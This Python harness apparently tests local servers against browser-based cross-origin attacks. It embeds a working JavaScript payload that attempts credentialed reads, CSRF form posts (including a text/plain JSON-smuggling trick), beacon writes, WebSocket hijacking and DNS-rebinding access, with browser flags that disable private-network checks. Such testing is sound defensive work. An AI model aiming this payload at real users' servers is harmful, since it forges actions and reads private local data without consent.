"""A page of another origin that attacks a server: by image, form, fetch, beacon, WebSocket, and a rebound name."""

from __future__ import annotations

import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, NamedTuple

EVIL = "evil.example"
"""A name of another site. The browser gets the address of this machine for the name, as after a rebinding."""
REBINDING = (
    f"--host-resolver-rules=MAP {EVIL} 127.0.0.1",
    "--no-proxy-server",
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",  # not all browsers have them
)
"""Options of a browser."""

PAGE = "<!doctype html><title>evil</title><body>"
ATTACK = """
async ({base, reads, writes, sockets}) => {
  const found = [];
  const within = (ms, promise) => Promise.race([promise, new Promise(done => setTimeout(done, ms))]);
  const read = async (how, url, options) => {
    try {
      const answer = await fetch(url, {...options, signal: AbortSignal.timeout(4000)});
      const text = await answer.text();
      if (answer.type !== 'opaque' && answer.ok) found.push(`${how} ${url}: ${answer.status} ${text.slice(0, 60)}`);
    } catch (error) { /* refused, or not shown to this page */ }
  };
  const form = (method, url, kind, fields) => within(3000, new Promise(done => {
    const frame = document.createElement('iframe'), form = document.createElement('form');
    frame.name = `frame${Math.random()}`;
    Object.assign(form, {method, action: url, target: frame.name});
    form.enctype = kind;
    for (const [name, value] of Object.entries(fields)) {
      const field = document.createElement('input');
      Object.assign(field, {name, value, type: 'hidden'});
      form.append(field);
    }
    document.body.append(frame, form);
    let loads = 0;
    frame.onload = () => { if (++loads > 1) done(); };
    form.submit();
  }));
  const image = (url, onload) => within(3000, new Promise(done => {
    const picture = new Image();
    picture.onload = () => { onload(); done(); };
    picture.onerror = done;
    picture.src = url;
  }));
  const kinds = ['text/plain', 'application/x-www-form-urlencoded', 'text/plain;charset=application/json'];
  const tried = [];
  for (const path of reads) {
    tried.push(read('read', base + path, {}), read('read with login', base + path, {credentials: 'include'}),
               image(base + path, () => found.push(`image ${base + path}`)));
  }
  for (const {path, body, method} of writes) {
    const url = base + path;
    if (method === 'GET') {
      tried.push(image(url, () => 0), form('GET', url, '', Object.fromEntries(new URL(url).searchParams)),
                 read('fetch', url, {}), read('fetch', url, {mode: 'no-cors'}));
    } else if (!body) {
      tried.push(read('bodiless', url, {method}), read('bodiless', url, {method, mode: 'no-cors'}),
                 form('POST', url, kinds[1], {}));
      navigator.sendBeacon(url);
    } else {
      const json = {method, body, headers: {'content-type': 'application/json'}};
      tried.push(read('json', url, json), read('json with login', url, {...json, credentials: 'include'}),
                 form('POST', url, kinds[0], {[body.slice(0, -1) + ', "x": "']: '"}'}),
                 form('POST', url, kinds[1], JSON.parse(body)),
                 form('POST', url, 'multipart/form-data', JSON.parse(body)));
      for (const kind of kinds)
        tried.push(read(kind, url, {method, body, mode: 'no-cors', headers: {'content-type': kind}}));
      navigator.sendBeacon(url, body);
    }
  }
  for (const {path, protocol, messages} of sockets) {
    tried.push(within(4000, new Promise(done => {
      const socket = new WebSocket(base.replace('http', 'ws') + path, protocol);
      socket.onopen = () => {
        found.push(`websocket ${base + path}`);
        messages.forEach(message => socket.send(JSON.stringify(message)));
        setTimeout(done, 500);
      };
      socket.onerror = socket.onclose = done;
    })));
  }
  await Promise.all(tried);
  return found;
}
"""
"""Script that attacks one server, and returns what the page could read or open."""


class Write(NamedTuple):
    """A request that would change something.

    Attributes:
        body: JSON of a POST; empty: a bodiless request.
    """

    path: str
    body: str = ""
    method: str = "POST"


class Socket(NamedTuple):
    """A WebSocket, and the messages to send if it opens."""

    path: str
    protocol: str
    messages: Sequence[dict[str, Any]] = ()


@dataclass
class Target:
    """A server under attack.

    Attributes:
        reads: paths whose answers are secret.
    """

    name: str
    port: int
    reads: Sequence[str] = ("/",)
    writes: Sequence[Write] = ()
    sockets: Sequence[Socket] = ()

    def argument(self, base: str) -> dict[str, Any]:
        """Return the argument of `ATTACK`."""
        writes, sockets = ([each._asdict() for each in found] for found in (self.writes, self.sockets))
        return {"base": base, "reads": list(self.reads), "writes": writes, "sockets": sockets}


@contextmanager
def evil_site() -> Iterator[int]:
    """Serve an empty page on a port of this machine; yield the port."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(PAGE.encode())

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        server.server_close()


def attack(browser: Any, target: Target, login: dict[str, str] | None = None) -> list[str]:
    """Attack a server from a page of another port, of another site, and under a rebound name; return what was read.

    Args:
        browser: started with `REBINDING`.
        login: the visitor's, `username` and `password`: known to the browser for the server's own address alone.
    """
    found: list[str] = []
    ours = f"http://127.0.0.1:{target.port}"
    rebound = f"http://{EVIL}:{target.port}"
    with evil_site() as port:
        for page_url, base in (
            (f"http://127.0.0.1:{port}/", ours),
            (f"http://{EVIL}:{port}/", ours),
            (f"{rebound}/attack.html", rebound),
        ):
            context = browser.new_context()
            page = context.new_page()
            if login:
                # The browser knows the login from now on. Playwright's own credentials would answer preflights, too.
                page.goto(ours.replace("//", f"//{login['username']}:{login['password']}@"))
            # Under a rebound name, the page came from the attacker's own server, before the name was pointed here.
            if base == rebound:  # with a route, Playwright answers the preflights of the page by itself
                page.route(f"{rebound}/attack.html", lambda route: route.fulfill(body=PAGE, content_type="text/html"))
            page.goto(page_url)
            found += [f"{target.name}, {page_url}: {each}" for each in page.evaluate(ATTACK, target.argument(base))]
            context.close()
        context = browser.new_context()
        page = context.new_page()
        for path in target.reads:  # a link, or a window that the page opens
            try:
                answer = page.goto(rebound + path, timeout=5_000)
            except Exception:  # no HTTP, or an unsafe port
                continue
            if answer is not None and answer.ok:
                found.append(f"{target.name}: opened {rebound}{path}")
        context.close()
    return found
